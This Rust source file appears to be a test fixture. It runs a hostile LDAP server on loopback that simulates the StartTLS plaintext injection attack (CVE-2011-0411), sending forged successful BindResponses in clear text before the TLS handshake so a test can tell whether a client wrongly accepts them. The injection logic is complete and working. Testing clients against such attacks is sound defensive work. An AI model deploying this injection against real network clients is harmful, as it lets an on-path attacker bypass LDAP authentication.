//! An LDAP server that attacks StartTLS as someone on the network path can
//! (CVE-2011-0411): behind its StartTLS answer it sends forged successful
//! BindResponses in clear text, then does a real TLS handshake and, over TLS,
//! refuses every bind. A client that reads what arrived before the handshake
//! as if it came after takes a forged answer for the server's and logs in
//! with any password. Without the injection it is an honest server that
//! knows no password, so any login it lets through was let in by the forgery.

use std::io;
use std::net::SocketAddr;
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};

use rustls::ServerConfig;
use rustls::pki_types::pem::PemObject;
use rustls::pki_types::{CertificateDer, PrivateKeyDer};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio::task::JoinHandle;
use tokio_rustls::TlsAcceptor;

use super::pki::Pki;

const STARTTLS_OID: &[u8] = b"1.3.6.1.4.1.1466.20037";

/// How many forged BindResponses follow the StartTLS answer, numbered from
/// the StartTLS request's ID + 1: clients number their requests in order,
/// so the first operation over TLS takes one of them. Starting at the next
/// ID matters: a client that insists on the ID it expects would reject a
/// lower one as a protocol error, and the attack would go unnoticed.
const FORGED: i32 = 16;

// Protocol operations (RFC 4511, 4.2 to 4.14): [APPLICATION n] tags.
const BIND_REQUEST: u8 = 0x60;
const BIND_RESPONSE: u8 = 0x61;
const UNBIND_REQUEST: u8 = 0x42;
const SEARCH_REQUEST: u8 = 0x63;
const SEARCH_RESULT_DONE: u8 = 0x65;
const EXTENDED_REQUEST: u8 = 0x77;
const EXTENDED_RESPONSE: u8 = 0x78;

const SUCCESS: u8 = 0;
const INVALID_CREDENTIALS: u8 = 49;

/// Where the forged answers go, if anywhere.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Injection {
    /// None: an honest server that refuses every bind.
    None,
    /// In the same TCP write as the StartTLS answer, so that the client
    /// reads them with it.
    SameWrite,
    /// In a write of their own, once the client's ClientHello has arrived
    /// and before it is answered: the client meets them where it expects
    /// the server's first TLS record.
    AfterClientHello,
}

/// What the server did, so a test can tell it was really reached.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Seen {
    pub starttls_answered: u64,
    pub forgeries_sent: u64,
    pub handshakes: u64,
    pub binds_refused: u64,
    pub searches_answered: u64,
}

#[derive(Default)]
struct Counts {
    starttls_answered: AtomicU64,
    forgeries_sent: AtomicU64,
    handshakes: AtomicU64,
    binds_refused: AtomicU64,
    searches_answered: AtomicU64,
}

/// The server, accepting on a free loopback port until dropped.
pub struct HostileLdap {
    pub addr: SocketAddr,
    counts: Arc<Counts>,
    accepting: JoinHandle<()>,
}

impl HostileLdap {
    /// Serves with the certificate `pki` issues for 127.0.0.1.
    pub async fn start(pki: &Pki, injection: Injection) -> HostileLdap {
        let acceptor = TlsAcceptor::from(server_config(&pki.path("server.pem"), &pki.path("server-key.pem")));
        let listener = TcpListener::bind("127.0.0.1:0").await.expect("bind the hostile server");
        let addr = listener.local_addr().expect("the hostile server's address");
        let counts = Arc::new(Counts::default());
        let shared = counts.clone();
        let accepting = tokio::spawn(async move {
            while let Ok((tcp, _)) = listener.accept().await {
                let (acceptor, counts) = (acceptor.clone(), shared.clone());
                tokio::spawn(async move {
                    // A client that gives up midway is no failure of the server.
                    let _ = serve(tcp, acceptor, injection, &counts).await;
                });
            }
        });
        HostileLdap { addr, counts, accepting }
    }

    pub fn url(&self) -> String {
        format!("ldap://{}", self.addr)
    }

    pub fn seen(&self) -> Seen {
        let count = |counter: &AtomicU64| counter.load(Ordering::SeqCst);
        Seen {
            starttls_answered: count(&self.counts.starttls_answered),
            forgeries_sent: count(&self.counts.forgeries_sent),
            handshakes: count(&self.counts.handshakes),
            binds_refused: count(&self.counts.binds_refused),
            searches_answered: count(&self.counts.searches_answered),
        }
    }
}

impl Drop for HostileLdap {
    fn drop(&mut self) {
        self.accepting.abort();
    }
}

fn server_config(cert: &Path, key: &Path) -> Arc<ServerConfig> {
    let chain: Vec<CertificateDer<'static>> =
        CertificateDer::pem_file_iter(cert).expect("server.pem").map(|c| c.expect("a certificate")).collect();
    let key = PrivateKeyDer::from_pem_file(key).expect("server-key.pem");
    let config = ServerConfig::builder_with_provider(Arc::new(rustls::crypto::ring::default_provider()))
        .with_safe_default_protocol_versions()
        .expect("TLS versions")
        .with_no_client_auth()
        .with_single_cert(chain, key)
        .expect("the server's certificate and key");
    Arc::new(config)
}

/// One connection: StartTLS in clear text and nothing else, then TLS.
async fn serve(
    mut tcp: TcpStream,
    acceptor: TlsAcceptor,
    injection: Injection,
    counts: &Counts,
) -> io::Result<()> {
    tcp.set_nodelay(true)?;
    let Some(request) = read_message(&mut tcp).await? else { return Ok(()) };
    let (id, op, contents) = parse(&request).ok_or_else(|| invalid("not an LDAP message"))?;
    // The first octets of an ExtendedRequest are its requestName, [0].
    if op != EXTENDED_REQUEST
        || tlv(contents).is_none_or(|(tag, name, _)| tag != 0x80 || name != STARTTLS_OID)
    {
        return Err(invalid("the client did not start with StartTLS"));
    }
    let mut answer = message(id, &extended_response_success(STARTTLS_OID));
    let forged: Vec<u8> =
        (id + 1..=id + FORGED).flat_map(|id| message(id, &result(BIND_RESPONSE, SUCCESS))).collect();
    match injection {
        Injection::None => tcp.write_all(&answer).await?,
        Injection::SameWrite => {
            answer.extend_from_slice(&forged);
            tcp.write_all(&answer).await?;
            counts.forgeries_sent.fetch_add(1, Ordering::SeqCst);
        }
        Injection::AfterClientHello => {
            tcp.write_all(&answer).await?;
            // Waits for the ClientHello without taking it from the socket.
            tcp.peek(&mut [0u8; 1]).await?;
            tcp.write_all(&forged).await?;
            counts.forgeries_sent.fetch_add(1, Ordering::SeqCst);
        }
    }
    counts.starttls_answered.fetch_add(1, Ordering::SeqCst);
    let mut tls = acceptor.accept(tcp).await?;
    counts.handshakes.fetch_add(1, Ordering::SeqCst);
    honest(&mut tls, counts).await
}

/// Over TLS: every bind refused, every search found empty.
async fn honest<S: AsyncRead + AsyncWrite + Unpin>(stream: &mut S, counts: &Counts) -> io::Result<()> {
    while let Some(request) = read_message(stream).await? {
        let (id, op, _) = parse(&request).ok_or_else(|| invalid("not an LDAP message"))?;
        let answer = match op {
            BIND_REQUEST => {
                counts.binds_refused.fetch_add(1, Ordering::SeqCst);
                result(BIND_RESPONSE, INVALID_CREDENTIALS)
            }
            SEARCH_REQUEST => {
                counts.searches_answered.fetch_add(1, Ordering::SeqCst);
                result(SEARCH_RESULT_DONE, SUCCESS)
            }
            UNBIND_REQUEST => return Ok(()),
            _ => return Err(invalid("an operation this server does not answer")),
        };
        stream.write_all(&message(id, &answer)).await?;
        stream.flush().await?;
    }
    Ok(())
}

fn invalid(why: &str) -> io::Error {
    io::Error::new(io::ErrorKind::InvalidData, why)
}

// BER, as much as LDAP's messages need (X.690 8.1): one-octet tags, and
// definite lengths in the short form (below 128) or the long form.

/// One whole message, or `None` at the end of the stream.
async fn read_message<S: AsyncRead + Unpin>(stream: &mut S) -> io::Result<Option<Vec<u8>>> {
    let mut head = vec![0u8; 2];
    match stream.read_exact(&mut head).await {
        Ok(_) => {}
        Err(e) if e.kind() == io::ErrorKind::UnexpectedEof => return Ok(None),
        Err(e) => return Err(e),
    }
    let length = match head[1] {
        short @ 0..=0x7f => usize::from(short),
        long @ 0x81..=0x84 => {
            let mut octets = vec![0u8; usize::from(long & 0x7f)];
            stream.read_exact(&mut octets).await?;
            head.extend_from_slice(&octets);
            octets.iter().fold(0, |length, &octet| length << 8 | usize::from(octet))
        }
        _ => return Err(invalid("an indefinite or oversized length")),
    };
    if length > 1 << 20 {
        return Err(invalid("a message larger than any request expected"));
    }
    let mut whole = head;
    let start = whole.len();
    whole.resize(start + length, 0);
    stream.read_exact(&mut whole[start..]).await?;
    Ok(Some(whole))
}

/// The tag, contents and what follows of the first element of `input`.
fn tlv(input: &[u8]) -> Option<(u8, &[u8], &[u8])> {
    let (&tag, rest) = input.split_first()?;
    let (&first, rest) = rest.split_first()?;
    let (length, rest) = match first {
        short @ 0..=0x7f => (usize::from(short), rest),
        long @ 0x81..=0x84 => {
            let (octets, rest) = rest.split_at_checked(usize::from(long & 0x7f))?;
            (octets.iter().fold(0, |length, &octet| length << 8 | usize::from(octet)), rest)
        }
        _ => return None,
    };
    let (contents, rest) = rest.split_at_checked(length)?;
    Some((tag, contents, rest))
}

/// A message's ID, protocol operation tag and that operation's contents.
fn parse(message: &[u8]) -> Option<(i32, u8, &[u8])> {
    let (0x30, contents, []) = tlv(message)? else { return None };
    let (0x02, id, rest) = tlv(contents)? else { return None };
    if id.is_empty() || id.len() > 4 {
        return None;
    }
    // Two's complement, sign-extended from the first octet.
    let first = i32::from(id[0] as i8);
    let id = id[1..].iter().fold(first, |value, &octet| value << 8 | i32::from(octet));
    let (op, contents, _) = tlv(rest)?;
    Some((id, op, contents))
}

fn encode(tag: u8, contents: &[u8]) -> Vec<u8> {
    let mut out = vec![tag];
    match u8::try_from(contents.len()) {
        Ok(short @ 0..=0x7f) => out.push(short),
        _ => {
            let length = (contents.len() as u32).to_be_bytes();
            let significant = &length[length.iter().take_while(|&&octet| octet == 0).count()..];
            out.push(0x80 | significant.len() as u8);
            out.extend_from_slice(significant);
        }
    }
    out.extend_from_slice(contents);
    out
}

/// A non-negative INTEGER in as few octets as keep its sign bit clear.
fn integer(value: i32) -> Vec<u8> {
    assert!(value >= 0, "message IDs are not negative");
    let octets = value.to_be_bytes();
    let mut skip = 0;
    while skip < 3 && octets[skip] == 0 && octets[skip + 1] < 0x80 {
        skip += 1;
    }
    encode(0x02, &octets[skip..])
}

fn message(id: i32, op: &[u8]) -> Vec<u8> {
    encode(0x30, &[integer(id), op.to_vec()].concat())
}

/// An LDAPResult (RFC 4511, 4.1.9) under `tag`, with empty matchedDN and
/// diagnosticMessage.
fn result(tag: u8, code: u8) -> Vec<u8> {
    encode(tag, &result_fields(code))
}

fn result_fields(code: u8) -> Vec<u8> {
    [encode(0x0a, &[code]), encode(0x04, b""), encode(0x04, b"")].concat()
}

/// An ExtendedResponse (RFC 4511, 4.12) with `name` as its responseName, [10].
fn extended_response_success(name: &[u8]) -> Vec<u8> {
    encode(EXTENDED_RESPONSE, &[result_fields(SUCCESS), encode(0x8a, name)].concat())
}
